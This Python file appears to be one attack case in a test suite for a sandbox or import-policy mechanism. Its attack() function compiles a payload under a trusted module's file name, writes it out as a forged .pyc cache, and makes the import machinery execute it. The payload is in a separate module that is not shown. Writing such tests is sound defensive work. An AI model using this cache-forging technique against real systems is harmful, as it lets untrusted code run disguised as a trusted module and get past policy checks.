"""The import system's own function is told of a cache of one's own."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "deny"
GRANT = {"write": ["$TMP"]}
SILENT = "What lies there is not believed."

import importlib._bootstrap_external as external
import marshal

from . import payload


def attack():
    import good
    import _imp
    if not _imp.has_policy():
        return payload.act()
    code = compile(payload.SOURCE, good.__file__, "exec")
    cache = payload.ROOT + "/tmp/good.pyc"
    with open(cache, "wb") as file:
        file.write(external._code_to_timestamp_pyc(code))
    exec(_imp.get_code(good.__loader__, "good", good.__file__,
                       lambda path: cache, type(good.__loader__)))
